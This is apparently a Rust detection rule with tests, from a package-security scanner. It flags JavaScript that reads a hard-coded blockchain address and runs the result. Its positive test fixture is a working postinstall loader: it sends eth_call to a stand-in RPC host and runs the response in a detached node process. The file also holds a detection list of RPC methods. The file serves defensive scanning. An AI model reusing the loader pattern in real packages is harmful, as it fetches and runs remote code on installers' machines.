//! `code/blockchain-dead-drop`.

use super::{chain, finding};
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::signal::{FileFacts, Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// A blockchain read of a hard-coded address used as a command-and-control dead drop, next to code that runs what it gets.
    ///
    /// ## What it detects
    /// In one JavaScript module (not a bundle): a JSON-RPC method that reads chain state or a transaction
    /// (`eth_call`, `eth_getStorageAt`, `eth_getTransactionByHash`, Solana `getSignaturesForAddress`, TRON
    /// `gettransactioninfobyid`) written as a string, a hard-coded wallet or contract address, and a way to run
    /// what comes back: a detached or silent process, code evaluation of a computed or decoded string, or code
    /// run on network data. High.
    ///
    /// ## Why it matters
    /// Since EtherHiding (2023) loaders keep their next-stage URL or payload in a smart contract's storage or a
    /// transaction's memo: the contract cannot be taken down like a domain, and the operator rotates the payload
    /// with one transaction. The npm packages of 2024–2025 that did this (a fake `ethers` helper calling a
    /// contract's getter, Solana-memo loaders) fetched the address with `eth_call`, downloaded the file it named
    /// and started it detached from an install script.
    ///
    /// ## Example
    /// `post(rpc, { method: 'eth_call', params: [{ to: '0x6b2F…', data: '0x89ea642f' }, 'latest'] })` then
    /// `spawn(process.execPath, [file], { detached: true, stdio: 'ignore' })`.
    ///
    /// ## Known false positives
    /// Wallet libraries and EIP-1193 connectors (ethers, web3, viem, wagmi) send `eth_call` for addresses their
    /// caller passes and start no processes; their bundles are skipped. A node tool that both reads a fixed
    /// contract and starts a detached helper in one module would be reported.
    pub static BLOCKCHAIN_DEAD_DROP = { id: "code/blockchain-dead-drop", severity: Severity::High };
}

/// JSON-RPC methods that read contract state, a transaction or its memo.
const READS: &[&str] = &[
    "eth_call",
    "eth_getStorageAt",
    "eth_getTransactionByHash",
    "getSignaturesForAddress",
    "gettransactioninfobyid",
];

/// One finding per module with a chain read of a fixed address next to a way to run code.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    p.files
        .iter()
        .filter(|f| f.kind == FileKind::JavaScript && !super::is_bundle(f))
        .filter_map(|f| module(p, f))
        .collect()
}

fn module(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
    let text = f.text.as_deref()?;
    let method = READS.iter().find(|m| {
        ['\'', '"', '`']
            .iter()
            .any(|q| text.contains(&format!("{q}{m}{q}")))
    })?;
    let address = f.of(Kind::WalletAddress).next()?;
    let run = f
        .of(Kind::DetachedSpawn)
        .chain(f.of(Kind::RemoteExec))
        .chain(f.of(Kind::DecodeExec))
        .chain(f.of(Kind::ComputedCode))
        .next()?;
    Some(finding(
        &BLOCKCHAIN_DEAD_DROP,
        BLOCKCHAIN_DEAD_DROP.default_severity,
        f,
        run,
        Locality::File,
        format!(
            "`{method}` of the hard-coded address `{}` (line {}) next to {} (a chain read as a dead drop)",
            address.detail, address.line, run.detail
        ),
        chain(p, f, run, &[Kind::WalletAddress, Kind::Network]),
    ))
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{hits, scan};

    const PJ_POST: &str =
        "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node r.js\"}}";

    #[test]
    fn positive_contract_read_then_detached_run() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "r.js",
                "const https = require('https');
const { spawn } = require('child_process');
const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x6b2Fe7A9c41d0E5b3A8f2C7d9E14b6a0C3f5D8e1', data: '0x89ea642f' }, 'latest'] });
const req = https.request({ host: 'rpc.example.org', method: 'POST' }, (res) => {
  let d = '';
  res.on('data', (c) => (d += c));
  res.on('end', () => {
    spawn(process.execPath, ['-e', d], { detached: true, stdio: 'ignore' }).unref();
  });
});
req.end(body);
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/blockchain-dead-drop"),
            vec![("r.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A wallet connector calling a token contract the caller names, and a constant default
    /// address: no process started, no code evaluated.
    #[test]
    fn negative_connector_eth_call() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "r.js",
                "const ZERO = '0x0000000000000000000000000000000000000000';
exports.balanceOf = async (provider, token, owner) => {
  const data = '0x70a08231' + owner.slice(2).padStart(64, '0');
  return provider.request({ method: 'eth_call', params: [{ to: token || ZERO, data }, 'latest'] });
};
",
            ),
        ]);
        assert!(
            hits(&s, "code/blockchain-dead-drop").is_empty(),
            "{:?}",
            s.findings
        );
    }
}
